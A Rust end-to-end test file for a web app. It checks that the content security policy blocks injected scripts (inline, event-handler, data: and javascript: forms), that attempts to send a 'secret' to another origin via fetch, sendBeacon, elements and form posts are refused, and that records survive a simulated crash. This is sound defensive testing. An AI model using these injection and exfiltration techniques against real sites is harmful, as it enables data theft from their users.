//! Nothing leaves by itself, nothing foreign runs, and a crash does not take the work with it.

use super::{Test, test};
use crate::harness::fixture::Fixture;
use crate::harness::site::SiteFault;
use crate::states::EXPOSE_WASM_EXPORTS;
use serde_json::{Value, json};

pub const TESTS: &[Test] = &[
    test!(injected_scripts_do_not_run),
    test!(nothing_can_be_sent_to_another_origin),
    test!(after_a_crash_the_saved_record_can_be_downloaded),
];

fn injected_scripts_do_not_run(fixture: &Fixture) {
    let user = fixture.user();
    user.open("#/discussion");
    let ran = user.browser.execute_async(
        "const done = arguments[arguments.length - 1];
         const script = document.createElement('script');
         script.textContent = 'document.documentElement.dataset.inline = 1';
         document.body.append(script);
         const button = document.createElement('button');
         button.setAttribute('onclick', 'document.documentElement.dataset.handler = 1');
         document.body.append(button);
         button.click();
         const data = document.createElement('script');
         data.src = 'data:text/javascript,document.documentElement.dataset.data=1';
         document.body.append(data);
         const link = document.createElement('a');
         link.href = 'javascript:void(document.documentElement.dataset.link=1)';
         document.body.append(link);
         link.click();
         try { window.setTimeout('document.documentElement.dataset.evaluated = 1', 0); } catch {}
         window.setTimeout(() => {
           button.remove(); link.remove(); script.remove(); data.remove();
           done(Object.keys(document.documentElement.dataset)
             .filter((key) => ['inline', 'handler', 'data', 'link', 'evaluated'].includes(key)));
         }, 300);",
        vec![],
    );
    assert_eq!(
        ran,
        Ok(json!([])),
        "what ran although the policy forbids it"
    );
    // The app itself still does.
    user.type_into("Team Manager", "Still at work");
    user.sees_saved();
}

fn nothing_can_be_sent_to_another_origin(fixture: &Fixture) {
    let user = fixture.user();
    user.open("#/discussion");
    let mark = format!("/leak/{}/{}/", fixture.engine, fixture.delivery);
    let target = fixture.test_run.elsewhere.origin() + &mark;
    let outcome = user.browser.execute_async(
        "const [target, done] = arguments;
         const out = {};
         const tried = [];
         const outcome = (name, promise) => tried.push(promise.then(
           () => { out[name] = 'went through'; }, () => { out[name] = 'refused'; }));
         const element = (tag, attribute) => new Promise((resolve, reject) => {
           const e = document.createElement(tag);
           e.onload = resolve; e.onerror = reject;
           e[attribute] = target + tag;
           if (tag === 'link') e.rel = 'stylesheet';
           document.body.append(e);
           setTimeout(reject, 1500);
         });
         outcome('fetch', fetch(target + 'fetch', { method: 'POST', body: 'secret' }));
         outcome('no-cors', fetch(target + 'no-cors', { mode: 'no-cors' }));
         outcome('img', element('img', 'src'));
         outcome('script', element('script', 'src'));
         outcome('link', element('link', 'href'));
         try { navigator.sendBeacon(target + 'beacon', 'secret'); } catch {}
         try {
           const form = document.createElement('form');
           form.action = target + 'form'; form.method = 'post';
           const frame = document.createElement('iframe');
           frame.name = 'e2e-form'; form.target = 'e2e-form';
           document.body.append(frame, form);
           form.submit();
         } catch {}
         Promise.all(tried).then(() => setTimeout(() => done(out), 200));",
        vec![json!(target)],
    );
    let outcome = outcome.unwrap_or_else(Value::String);
    let wanted = json!({
        "fetch": "refused", "no-cors": "refused", "img": "refused",
        "script": "refused", "link": "refused"
    });
    assert_eq!(outcome, wanted);
    let arrived = fixture.test_run.elsewhere.requests_under(&mark);
    assert_eq!(
        arrived,
        Vec::<String>::new(),
        "what arrived at another origin"
    );
}

fn after_a_crash_the_saved_record_can_be_downloaded(fixture: &Fixture) {
    let user = fixture.user_with_fault(&SiteFault {
        head: Some(EXPOSE_WASM_EXPORTS.to_owned()),
        ..SiteFault::default()
    });
    user.open("#/discussion");
    user.type_into("Name of Organisation", "Saved before the crash");
    user.sees_saved();
    let before = user.stored_entries();
    // All of the app's memory becomes nonsense; what it does next cannot go well.
    user.script(
        "new Uint8Array(window.e2eExports.memory.buffer).fill(0xff);",
        vec![],
    );
    user.press("Add a learning point");
    user.sees_heading("Something went wrong on this page");
    let rescue = user.download("Download Saved before the crash");
    assert_eq!(
        user.stored_entries(),
        before,
        "the crash wrote over what was saved"
    );
    // It is a return like any other.
    let file = user.write_file(&rescue.name, rescue.text.as_bytes());
    user.open("#/records");
    user.choose_file("Open a return from a file", &file);
    user.sees("Exactly this record is already on this device.");
    user.go_to("#/discussion");
    user.reload();
    user.sees_value("Name of Organisation", "Saved before the crash");
}
